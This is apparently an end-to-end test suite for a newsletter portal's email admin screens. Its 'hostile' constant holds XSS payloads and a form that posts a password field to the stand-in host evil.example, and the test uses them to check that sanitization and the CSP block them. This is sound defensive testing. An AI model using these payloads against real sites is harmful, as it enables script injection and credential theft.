import type { Locator, Request } from '@playwright/test';
import { fetchUntil, letterOf, test } from '../../support/inbox-portal.ts';
import { expect, expectAccessible } from '../../support/journey.ts';
import { expectNoOverflow, looks, openScreen as open, signIn, takeLook } from '../../support/portal.ts';
import { hasDovecot } from '../../support/services/dovecot.ts';

const paragraphs = [
	'<p>The harbour was quiet this week, and so the tide got all the attention it deserves: three things about sandbanks, and a map that nobody has asked for in thirty years.</p>',
	'<p>A lamp keeper of ninety lent me the old soundings. They lay in a biscuit tin, under a recipe for herring and two letters from a captain who could not spell.</p>',
	'<p>The ferry has a new skipper, and the gulls know it already. What else changes when one person steers differently, and why does the pier creak on Thursdays?</p>',
] as const;

/** What attackers try: each of these would show in the page, in its dialogs or in its requests. */
const hostile = `<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 1"><a href="javascript:window.pwned=1">Press</a>
<form action="https://evil.example/steal"><input name="password"></form><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url(https://evil.example/css) }</style><div style="background-image: url(https://evil.example/inline)">Words</div>
<svg><animate onbegin="window.pwned = 1"></animate></svg><iframe src="https://evil.example/frame"></iframe>
<img src="https://evil.example/pixel.gif" width="1" height="1"><img src="https://evil.example/photo.jpg" alt="A pier">`;

test.describe('with a mailbox', () => {
	// biome-ignore lint/suspicious/noSkippedTests: only where Dovecot is not installed
	test.skip(!hasDovecot, 'Dovecot is not installed');
	// Inspecting the frame needs a script in it, and the mail has a remote picture: the sandbox and the CSP block both.
	test.use({
		expectedNoise: [
			/Blocked script execution in .*\/original|evil\.example.* violates .*Content Security|Failed to load resource: net::/,
		],
	});
	test('mail becomes a listing with past issues, and its name follows its mails', async ({
		page,
		mailbox,
	}) => {
		test.slow();
		const mark = await signIn(page);
		const name = `The Tide of ${mark}`;
		for (const [index, paragraph] of paragraphs.entries())
			mailbox.deliver(
				letterOf({ name, mark, number: index + 1, html: index === 2 ? paragraph + hostile : paragraph }),
			);

		await open(page, '/admin/email', 'Email Management');
		await page.getByRole('button', { name: 'Check mailbox' }).click();
		const gmail = page.getByRole('region', { name: 'Gmail' });
		await expect(gmail.getByText('Connected', { exact: true })).toBeVisible();
		await expect(gmail.getByText('Last connection')).toContainText(/now|ago/);
		await expect(page.getByRole('region', { name: 'OpenAI' })).toContainText('Not Configured');
		await page.getByRole('tab', { name: /^Pending Emails/ }).click();
		await page.getByLabel('Search emails').fill(mark);
		const rows = page.getByRole('row').filter({ hasText: mark });
		await fetchUntil(page, rows, 3);

		const elsewhere: string[] = [];
		// Requests blocked by the CSP are announced like others but never leave.
		const note = (request: Request) => {
			if (/evil\.example/.test(request.url()) && request.failure()?.errorText !== 'csp')
				elsewhere.push(request.url());
		};
		page.on('requestfinished', note);
		page.on('requestfailed', note);
		await page.getByRole('button', { name: `Read Letter 3 of ${mark}` }).click();
		const message = page.getByRole('dialog', { name: `Letter 3 of ${mark}` });
		await expect(message.getByText('The ferry has a new skipper', { exact: false })).toBeVisible();
		await expect(message).not.toContainText(`s3cr3t-${mark}`);
		await message.getByRole('button', { name: 'Original design' }).click();
		await expect(
			message.frameLocator('iframe').getByText('The ferry has a new skipper', { exact: false }),
		).toBeVisible();
		await message.getByRole('button', { name: 'Headers' }).click();
		await expect(message.getByRole('region', { name: 'Headers' })).toContainText(/list-id/i);
		expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
		expect(elsewhere).toEqual([]);
		page.off('requestfinished', note);
		page.off('requestfailed', note);
		await message.getByTitle('Close').click();

		const processing = [1, 2, 3].map((number) =>
			page.getByRole('button', { name: `Process Letter ${number} of ${mark}` }),
		);
		// Checked on every frame from now on, since another toast may replace it.
		const told = page.waitForFunction(() => document.body.textContent?.includes('Email processed'));
		told.catch(() => {});
		// A scheduled fetch also processes mail, perhaps just before the click.
		const isPressed = await processing[0]?.click({ timeout: 5000 }).then(
			() => true,
			() => false,
		);
		if (isPressed) await told;
		await expect(processing[0] as Locator).toBeDisabled({ timeout: 60_000 });
		await page
			.getByRole('button', { name: 'Process all' })
			.click({ timeout: 5000 })
			.catch(() => {});
		for (const button of processing) await expect(button).toBeDisabled({ timeout: 60_000 });

		await page.getByRole('tab', { name: /^Newsletter Sources/ }).click();
		await page.getByRole('button', { name: `Create Newsletter ${name}` }).click();
		await expect(page.getByText('Newsletter created', { exact: true })).toBeVisible();
		const view = page.getByRole('link', { name: `View Newsletter ${name}` });
		await expect(view).toHaveAttribute('target', '_blank');
		const address = String(await view.getAttribute('href'));

		const listed = await (await page.request.get(`/api/newsletters/${address.split('/').at(-1)}`)).json();
		const renamed = await page.request.patch(`/api/newsletters/${listed.id}`, {
			data: { name: `Wrong ${mark}` },
		});
		expect(renamed.ok()).toBe(true);
		await page.getByRole('button', { name: 'Verify Newsletter Names' }).click();
		const review = page.getByRole('region', { name: 'Names to review' });
		const suggestion = review.getByRole('row').filter({ hasText: `Wrong ${mark}` });
		await expect(suggestion).toContainText(name);
		const tick = suggestion.getByRole('checkbox');
		await expect(review.getByRole('checkbox', { checked: false })).toHaveCount(0);
		await tick.uncheck();
		await expect(review.getByRole('button', { name: 'Apply All Suggested Names' })).toHaveCount(0);
		await tick.check();
		// Renamed by somebody else in the meantime: the suggestion is stale and not applied.
		await page.request.patch(`/api/newsletters/${listed.id}`, { data: { name: `Also wrong ${mark}` } });
		await review.getByRole('button', { name: 'Apply All Suggested Names' }).click();
		await expect(review.getByRole('list', { name: 'Names that were not changed' })).toContainText(
			`“Wrong ${mark}” was not changed. It is called “Also wrong ${mark}” by now.`,
		);
		await review.getByRole('button', { name: 'Apply All Suggested Names' }).click();
		await expect(page.getByText('Names updated', { exact: true })).toBeVisible();
		await expect(review).toHaveCount(0);

		await page.goto(address);
		await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
		for (const number of [1, 2, 3])
			await expect(page.getByText(`Letter ${number} of ${mark}`).first()).toBeVisible();
		await expect(page.getByText(`s3cr3t-${mark}`)).toHaveCount(0);

		await open(page, '/admin/sources', 'Newsletter Sources');
		await page.getByLabel('Search sources').fill(mark);
		await page.getByRole('button', { name: `Details ${name}` }).click();
		const details = page.getByRole('dialog', { name });
		await expect(details).toContainText(`letters@${mark}.example`);
		await expect(details.getByLabel('Frequency')).toHaveValue('Weekly');
	});

	test('a mail without proof is set aside, and an editor publishes it once or calls its sender right', async ({
		page,
		mailbox,
	}) => {
		test.slow();
		const mark = await signIn(page);
		const name = `The Pier of ${mark}`;
		const letterWith = (number: number, provenDomain?: null) =>
			letterOf({
				name,
				mark,
				number,
				html: paragraphs[number - 1] ?? '',
				...(provenDomain === null && { provenDomain }),
			});
		mailbox.deliver(letterWith(1));
		await open(page, '/admin/email?tab=pending', 'Email Management');
		await page.getByLabel('Search emails').fill(mark);
		const rows = page.getByRole('row').filter({ hasText: mark });
		await fetchUntil(page, rows, 1);
		const [first] = await (await page.request.get(`/api/email/pending?q=${mark}`)).json();
		expect((await page.request.post(`/api/email/${first.id}/process`)).ok()).toBe(true);
		const listed = await page.request.post(`/api/newsletter-sources/${first.sourceId}/create-newsletter`);
		const { newsletter } = await listed.json();

		for (const number of [2, 3]) mailbox.deliver(letterWith(number, null));
		await fetchUntil(page, rows, 3);
		const told = page.waitForFunction(() => document.body.textContent?.includes('Email set aside'));
		told.catch(() => {});
		await page.getByRole('button', { name: `Process Letter 2 of ${mark}` }).click();
		await told;
		await expect(page.getByText('Email processed', { exact: true })).toHaveCount(0);
		await page.getByRole('button', { name: `Process Letter 3 of ${mark}` }).click();
		for (const number of [2, 3])
			await expect(rows.filter({ hasText: `Letter ${number} of` })).toContainText('Set aside');
		await page.getByRole('button', { name: 'Show what was set aside' }).click();
		await expect(page.getByLabel('Search emails')).toHaveValue('');
		await expect(rows).toHaveCount(2);

		for (const [number, choice, toast] of [
			[2, 'Publish anyway', 'Email published'],
			[3, 'This sender is right from now on', 'Sender remembered'],
		] as const) {
			const subject = `Letter ${number} of ${mark}`;
			await page.getByRole('button', { name: `Read ${subject}` }).click();
			const message = page.getByRole('dialog', { name: subject });
			const reasons = message.getByRole('region', { name: 'Set aside for its sender' });
			await expect(reasons).toContainText(`under the name of ${name}`);
			await expect(reasons).toContainText('it left no results in this mail');
			await expect(reasons).toContainText(`no signature of the sender’s domain (${mark}.example)`);
			await expect(message.getByText(/lamp keeper|new skipper/)).toBeVisible();
			await expectAccessible(page);
			await reasons.getByRole('button', { name: choice }).click();
			await expect(page.getByText(toast, { exact: true })).toBeVisible();
			await expect(reasons).toHaveCount(0);
			await message.getByTitle('Close').click();
		}
		await expect(rows).toHaveCount(0);

		await open(page, '/admin/sources', 'Newsletter Sources');
		await page.getByLabel('Search sources').fill(mark);
		await page.getByRole('button', { name: `Details ${name}` }).click();
		const senders = page.getByRole('dialog', { name }).getByRole('region', { name: 'Right senders' });
		await expect(senders).toContainText(`letters@${mark}.example (without proof)`);
		await senders.getByRole('button', { name: `Forget letters@${mark}.example` }).click();
		await expect(page.getByText('Sender forgotten', { exact: true })).toBeVisible();
		await expect(senders.getByRole('listitem')).toHaveCount(1);

		await page.goto(`/newsletter/${newsletter.slug}`);
		for (const number of [1, 2, 3])
			await expect(page.getByText(`Letter ${number} of ${mark}`).first()).toBeVisible();
	});
});

test.describe('with a server that fails', () => {
	test.use({ expectedNoise: [/500 \(Internal Server Error\)/] });

	test('each tab says in its own words what could not be had', async ({ page }) => {
		await signIn(page);
		const answer = { status: 500, contentType: 'text/plain', body: 'Out of ink.' };
		await page.route(/\/api\/(email|newsletter-sources|newsletters\/(update-images|verify-names))/, (route) =>
			route.fulfill(answer),
		);
		await open(page, '/admin/email', 'Email Management');
		await expect(page.getByText('Error Loading Status', { exact: true })).toBeVisible();
		await expect(
			page.getByText('Could not load the service status. Please try refreshing.', { exact: true }),
		).toBeVisible();
		await page.getByRole('button', { name: 'Refresh Status' }).click();
		await expect(page.getByText('Failed to fetch service status', { exact: true })).toBeVisible();
		await page.getByRole('tab', { name: /^Pending Emails/ }).click();
		await expect(page.getByText('Failed to fetch pending emails', { exact: true }).first()).toBeVisible();
		await page.getByRole('button', { name: 'Fetch New Emails' }).click();
		await expect(page.getByText('Failed to fetch emails: 500: Out of ink.', { exact: true })).toBeVisible();
		await page.getByRole('tab', { name: /^Newsletter Sources/ }).click();
		await expect(page.getByText('Failed to fetch newsletter sources', { exact: true }).first()).toBeVisible();
		for (const [button, words] of [
			['Update Newsletter Images', 'Failed to update newsletter images: 500: Out of ink.'],
			['Verify Newsletter Names', 'Failed to verify newsletter names: 500: Out of ink.'],
		] as const) {
			await page.getByRole('button', { name: button }).click();
			await expect(page.getByText(words, { exact: true })).toBeVisible();
		}
	});
});

test('a mailbox without mail says what to do next', async ({ page }) => {
	await signIn(page);
	await page.route(/\/api\/(email\/pending|newsletter-sources)/, (route) => route.fulfill({ json: [] }));
	await open(page, '/admin/email?tab=pending', 'Email Management');
	await expect(page.getByText('No pending emails', { exact: true })).toBeVisible();
	await page.getByRole('tab', { name: /^Newsletter Sources/ }).click();
	await expect(page.getByText('No newsletter sources yet', { exact: true })).toBeVisible();
});

for (const look of looks)
	test(`mail and sources are within everyone's reach, ${look.colorScheme} at ${look.width} pixels`, async ({
		page,
	}) => {
		test.slow();
		await takeLook(page, look);
		await signIn(page);
		await open(page, '/admin/email', 'Email Management');
		await expect(page.getByRole('region', { name: 'Gmail' })).toBeVisible();
		await expectAccessible(page);
		await open(page, '/admin/email?tab=pending', 'Email Management');
		await page
			.getByRole('button', { name: /^Read / })
			.first()
			.click();
		await expect(page.getByRole('dialog').getByRole('button', { name: 'Reading view' })).toBeVisible();
		await expectAccessible(page);
		await open(page, '/admin/email?tab=sources', 'Email Management');
		await expect(page.getByRole('row').nth(1)).toBeVisible();
		await expectAccessible(page);
		// The table's container clips what overflows.
		const cut = await page
			.getByRole('table')
			.evaluate((table) => table.clientWidth - (table.parentElement?.clientWidth ?? 0));
		expect(cut).toBeLessThanOrEqual(0);
		await open(page, '/admin/sources', 'Newsletter Sources');
		await page
			.getByRole('button', { name: /^Details / })
			.first()
			.click();
		await expect(page.getByRole('dialog').getByLabel('Frequency')).toBeVisible();
		await expectAccessible(page);
		await expectNoOverflow(page);
	});
